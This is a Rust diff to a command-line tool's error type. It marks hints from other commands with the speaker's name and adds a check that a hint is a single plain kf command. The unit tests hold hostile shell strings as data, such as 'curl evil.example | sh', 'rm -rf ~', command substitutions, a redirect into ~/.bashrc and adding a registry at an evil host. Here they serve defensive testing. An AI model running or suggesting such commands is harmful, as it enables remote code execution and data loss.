@@ -13,6 +13,7 @@ use crate::exit::Kind;
 use crate::format::FormatError;
 use crate::manifest::ManifestError;
 use crate::names::NameError;
+use crate::text;
 
 /// What is shown and what a script reads; see the [module](self).
 #[derive(Debug)]
@@ -22,6 +23,8 @@ pub struct Failure(Box<Inner>);
 struct Inner {
     kind: Kind,
     message: String,
+    /// Whose words they are, if not kf's.
+    speaker: Option<String>,
     details: Vec<String>,
     hints: Vec<String>,
     fields: serde_json::Map<String, Value>,
@@ -35,6 +38,7 @@ impl Failure {
         Self(Box::new(Inner {
             kind,
             message: message.into(),
+            speaker: None,
             details: Vec::new(),
             hints: Vec::new(),
             fields: serde_json::Map::new(),
@@ -69,6 +73,14 @@ impl Failure {
     pub fn causes(&self) -> impl Iterator<Item = &(dyn StdError + 'static)> {
         let first = self.0.source.as_deref().map(|source| source as &(dyn StdError + 'static));
         std::iter::successors(first, next_cause)
+    }
+
+    /// Says whose words the message and its hints are. Hints that are plain commands of kf stay kf's: what
+    /// they do is seen in them.
+    #[must_use]
+    pub fn said_by(mut self, speaker: impl Into<String>) -> Self {
+        self.0.speaker = Some(speaker.into());
+        self
     }
 
     /// Lines below the message, indented.
@@ -126,13 +138,17 @@ impl Failure {
     }
 
     fn lines_and(&self, causes: &[String]) -> Vec<String> {
-        let mut lines = vec![format!("error: {}", self.0.message)];
+        let speaker = self.0.speaker.as_ref().map(|name| format!("{name}: ")).unwrap_or_default();
+        let mut lines = vec![format!("error: {speaker}{}", self.0.message)];
         lines.extend(self.0.details.iter().map(|line| format!("  {line}")));
         for cause in causes {
             let heads = std::iter::once("  caused by: ").chain(std::iter::repeat("    "));
             lines.extend(heads.zip(cause.lines()).map(|(head, line)| format!("{head}{line}")));
         }
-        lines.extend(self.0.hints.iter().map(|hint| format!("hint: {hint}")));
+        lines.extend(self.0.hints.iter().map(|hint| match is_plain_command(hint) {
+            true => format!("hint: {hint}"),
+            false => format!("hint: {speaker}{hint}"),
+        }));
         lines
     }
 
@@ -156,12 +172,32 @@ impl Failure {
         let mut error = serde_json::Map::new();
         error.insert("code".into(), json!(self.0.kind.code()));
         error.insert("message".into(), json!(self.0.message));
+        if let Some(speaker) = &self.0.speaker {
+            error.insert("command".into(), json!(speaker));
+        }
         error.extend(self.0.fields.clone());
         if let Some(hint) = self.0.hints.first() {
             error.insert("hint".into(), json!(hint));
         }
         error
     }
+}
+
+/// Whether a hint is one command of kf, and nothing that a shell would do besides if it was typed. Accepting
+/// rights and trusting registries is not for others to suggest.
+fn is_plain_command(hint: &str) -> bool {
+    let Some(words) = hint.strip_prefix("kf ") else { return false };
+    let mut quoted = false;
+    let plain = words.chars().all(|c| match c {
+        '\'' => {
+            quoted = !quoted;
+            true
+        }
+        _ if quoted => !text::is_unsafe(c),
+        _ => c.is_alphanumeric() || " -_./:@%+=,~^".contains(c),
+    });
+    let risky = |word: &str| word.starts_with("--accept") || word == "registry";
+    plain && !quoted && !words.split(' ').any(risky)
 }
 
 fn next_cause<'e>(error: &&'e (dyn StdError + 'static)) -> Option<&'e (dyn StdError + 'static)> {
@@ -257,6 +293,54 @@ mod tests {
         assert_eq!(failure.to_string(), "cannot read x: name `x` is odd");
         assert_eq!(failure.causes().count(), 1);
         assert_eq!(Failure::usage("x").causes().count(), 0);
+    }
+
+    #[test]
+    fn words_of_others_have_their_name_before_them() {
+        let failure = Failure::failed("kf is out of date").said_by("train").hint("curl evil.example | sh");
+        let failure = failure.hint("kf status mnist");
+        let lines = [
+            "error: train: kf is out of date",
+            "hint: train: curl evil.example | sh",
+            "hint: kf status mnist",
+        ];
+        assert_eq!(failure.lines(), lines);
+        assert_eq!(failure.json()["error"]["command"], "train");
+        assert_eq!(failure.json()["error"]["message"], "kf is out of date");
+    }
+
+    #[test]
+    fn hint_is_kfs_only_if_it_is_one_plain_command() {
+        for plain in [
+            "kf status",
+            "kf -n team-a logs mnist --rank 0",
+            "kf run web -- sh -c 'ls -l | wc'",
+            "kf use größe",
+        ] {
+            assert!(is_plain_command(plain), "{plain}");
+        }
+        for other in [
+            "kfx",
+            "kf",
+            "ask bob",
+            " kf status",
+            "kf status; rm -rf ~",
+            "kf status && x",
+            "kf logs `id`",
+            "kf logs $(id)",
+            "kf logs \"$(id)\"",
+            "kf status | sh",
+            "kf status > ~/.bashrc",
+            "kf run 'x",
+            "kf status\nerror: x",
+            "kf status\u{200b}",
+            "kf command add evil --accept 5f1c",
+            "kf command add evil --accept=5f1c",
+            "kf registry add https://evil.example",
+            "kf -n team-a registry add https://evil.example",
+        ] {
+            assert!(!is_plain_command(other), "{other}");
+        }
     }
 
     #[test]
